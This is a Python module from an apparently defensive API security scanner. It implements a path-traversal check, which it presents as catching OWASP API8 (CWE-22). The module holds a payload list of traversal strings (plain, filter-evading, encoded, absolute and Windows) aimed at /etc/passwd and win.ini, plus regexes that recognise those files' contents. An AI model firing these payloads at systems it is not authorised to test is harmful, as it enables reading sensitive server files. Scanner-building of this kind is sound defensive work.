"""Path traversal: a file name from the caller that climbs out of its folder.

Inputs named like files or paths (``file``, ``filename``, ``path``, ``template``,
``download``…, and ``name`` on operations about files) get ``../`` sequences
(plain, filter-evading, encoded, absolute, Windows) towards files every system
has. The answer must then hold that file's content, which the normal answer
did not.
"""

from __future__ import annotations

import re

from apiward.core import Operation, Owasp, Severity
from apiward.scan.check import Issue, Phase, check
from apiward.scan.checks.injection_points import (
    Point,
    Target,
    base_value,
    each_target,
    inject,
    point_issue,
    points,
)
from apiward.scan.context import ScanContext
from apiward.scan.http import Exchange

__all__: list[str] = []

_MAX_POINTS = 2
_FILE_NAMES = re.compile(
    r"file|path|doc|document|template|statement|download|attachment|dir|folder|include"
    r"|page|resource|report|log|asset|export|image|img|theme|lang|locale|view|layout",
    re.I,
)
_FILE_OPS = re.compile(
    r"file|download|doc|statement|export|attachment|template|report|asset|static|media"
    r"|log|image|pdf|upload|backup",
    re.I,
)
_READ_OPS = re.compile(r"download|export|read|view|preview|render|print", re.I)
_UP = "../" * 8
_PAYLOADS: tuple[str, ...] = (
    f"{_UP}etc/passwd",
    "{value}/" + f"{_UP}etc/passwd",
    "....//" * 8 + "etc/passwd",
    "/etc/passwd",
    "..%2f" * 8 + "etc%2fpasswd",
    "..\\" * 8 + "windows\\win.ini",
)
_CONTENT = re.compile(
    r"root:[^:\n]{0,40}:0:0:|\[(?:fonts|extensions|mci extensions)\]|\[boot loader\]", re.I
)


def _reads(op: Operation) -> bool:
    """GETs, and other methods that say they read: a traversal in a write could overwrite."""
    if op.method == "GET":
        return True
    text = f"{op.path} {op.operation_id or ''}"
    return op.method == "POST" and _READ_OPS.search(text) is not None


def _file_points(ctx: ScanContext, op: Operation) -> list[Point]:
    file_op = bool(_FILE_OPS.search(f"{op.path} {op.operation_id or ''} {op.summary}"))
    return [
        p
        for p in points(ctx, op, rank=_FILE_NAMES)
        if _FILE_NAMES.search(p.leaf) or (file_op and p.leaf.lower().endswith("name"))
    ][:_MAX_POINTS]


async def _one(ctx: ScanContext, target: Target) -> None:
    if _CONTENT.search(target.baseline.text):
        return  # the file's content is there anyway: no proof possible
    for point in _file_points(ctx, target.op):
        value = base_value(ctx, target, point)
        for payload in _PAYLOADS:
            answer = await inject(ctx, target, point, payload.replace("{value}", value))
            if answer is None:
                break
            seen = _CONTENT.search(answer.text)
            if seen and seen.group(0) not in payload:
                ctx.report(_issue(target, point, answer, seen.group(0)))
                return


def _issue(target: Target, point: Point, answer: Exchange, seen: str) -> Issue:
    return point_issue(
        target,
        point,
        f"{target.op.key} reads files outside its folder through {point.label}: the answer "
        f"holds a system file ({seen!r})",
        [answer],
    )


@check(
    "path-traversal",
    title="A file name from the caller reads files outside its folder (path traversal)",
    category=Owasp.API8,
    cwe=22,
    severity=Severity.HIGH,
    remediation=(
        "Never build file paths from input: look the file up by an id the caller owns, or "
        "accept only a strict name pattern, resolve the path and check it stays inside the "
        "intended folder."
    ),
    phase=Phase.READ,
)
async def path_traversal(ctx: ScanContext) -> None:
    """Sends ``../`` sequences to inputs named like files or paths, towards ``/etc/passwd``
    and ``win.ini``.

    Plain, filter-evading (``....//``), encoded, absolute and Windows forms, and one
    after the valid value. Fires when the answer holds the file's content
    (``root:x:0:0:``, ``[fonts]``) and the normal answer did not.
    """
    ops = [op for op in ctx.operations() if _reads(op) and _file_points(ctx, op)]
    await each_target(ctx, ops, _one)
